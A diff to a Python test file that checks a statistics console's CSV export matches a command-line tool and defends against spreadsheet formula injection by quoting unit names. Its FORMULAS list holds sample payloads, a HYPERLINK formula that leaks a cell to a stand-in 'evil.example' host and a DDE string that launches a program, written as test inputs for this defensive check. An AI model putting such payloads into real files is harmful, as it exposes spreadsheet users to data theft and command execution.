@@ -7,10 +7,14 @@
 - the statistics page's CSV (console/src/csv.ts, run under node on GetStatistics' real answer
   from clued) is byte for byte what `cluectl stats --csv` prints for the same period, for an
   auditor's whole scope and a room's;
-- its medians are formatted as C's printf("%g") formats them, over awkward values.
+- its medians are formatted as C's printf("%g") formats them, over awkward values;
+- a unit name a spreadsheet would take for a formula (= + - @, a tab or CR first) gets a
+  leading quote, in the console as in cluectl.
 """
 
+import csv
 import gzip
+import io
 import os
 import random
 import re
@@ -63,7 +67,7 @@ def teardown(c):
 def test_the_build_is_hashed_assets_behind_one_index(c):
     d = console_data.CONSOLE_DIR
     html = open(os.path.join(d, "index.html")).read()
-    named = re.findall(r'(?:src|href)="(assets/[^"]+)"', html)
+    named = re.findall(r'(?:src|href)="/(assets/[^"]+)"', html)  # absolute: /clue/17 serves it too
     assert sorted(named) == sorted("assets/" + f for f in os.listdir(os.path.join(d, "assets"))), named
     for n in named:
         assert re.fullmatch(r"assets/main-[A-Z0-9]{8}\.(js|css)", n), n
@@ -118,6 +122,47 @@ def test_medians_format_as_printf_g(c):
     want = ["%g" % v for v in values]
     bad = [(v, g, w) for v, g, w in zip(values, got, want) if g != w]
     assert len(got) == len(values) and not bad, bad[:10]
+
+
+# Unit names a spreadsheet would run as formulas (an ADMIN names units).
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1",
+            "-2+3"]
+
+
+def test_formula_names_are_text(c):
+    """A unit name starting with = + - @ (or a tab or CR) gets a leading quote in the console's
+    CSV as in cluectl's, byte for byte; numbers and other names are left as they are. Runs
+    last: it adds units."""
+    w = c.w
+    ids = []
+    for i, name in enumerate(FORMULAS):
+        u = w.admin.admin.CreateUnit(S.admin_pb2.CreateUnitRequest(
+            kind=S.common_pb2.UNIT_KIND_REGION, code=f"FX{i}", name=name), timeout=10)
+        ids.append(u.id)
+    frm, to = "2026-01-01T00:00:00Z", "2031-01-01T00:00:00Z"
+    resp = w.auditor.stats.GetStatistics(ST.GetStatisticsRequest(from_ms=1767225600000, to_ms=1924992000000,
+                                                                 unit_ids=ids + [w.G1.id]), timeout=20)
+    printed = console_data.cluectl_bytes("stats", "--from", frm, "--to", to, "--csv", "--unit", str(w.G1.id),
+                                         *[a for i in ids for a in ("--unit", str(i))],
+                                         server=c.srv.addr, token=w.auditor.token)
+    got = csv_of(c, resp)
+    assert got == printed, f"console:\n{got.decode()}\ncluectl:\n{printed.decode()}"
+    rows = {r[0]: r for r in csv.reader(io.StringIO(got.decode(), newline=""))}
+    for uid, name in zip(ids, FORMULAS):
+        assert rows[str(uid)][2] == "'" + name, rows[str(uid)]
+    assert rows[str(w.G1.id)][2] == "group G1" and rows[str(w.G1.id)][3].isdigit(), rows[str(w.G1.id)]
+    # A tab or CR first (no unit name holds one: made up here), a quote inside, and a name
+    # merely holding a minus sign.
+    made = ST.GetStatisticsResponse(units=[
+        ST.UnitStats(unit_id=1, unit_code="T1", unit_name="\t=1+1", received=3),
+        ST.UnitStats(unit_id=2, unit_code="T2", unit_name="\r=1+1", received=-4),
+        ST.UnitStats(unit_id=3, unit_code="T3", unit_name='-"x",y'),
+        ST.UnitStats(unit_id=4, unit_code="T4", unit_name="某局-二处")])
+    lines = csv_of(c, made).decode().split("\r\n")
+    assert lines[1].startswith("1,T1,'\t=1+1,3,"), lines[1]
+    assert lines[2].startswith('2,T2,"\'\r=1+1",-4,'), lines[2]
+    assert lines[3].startswith('3,T3,"\'-""x"",y",0,'), lines[3]
+    assert lines[4].startswith("4,T4,某局-二处,0,"), lines[4]
 
 
 if __name__ == "__main__":
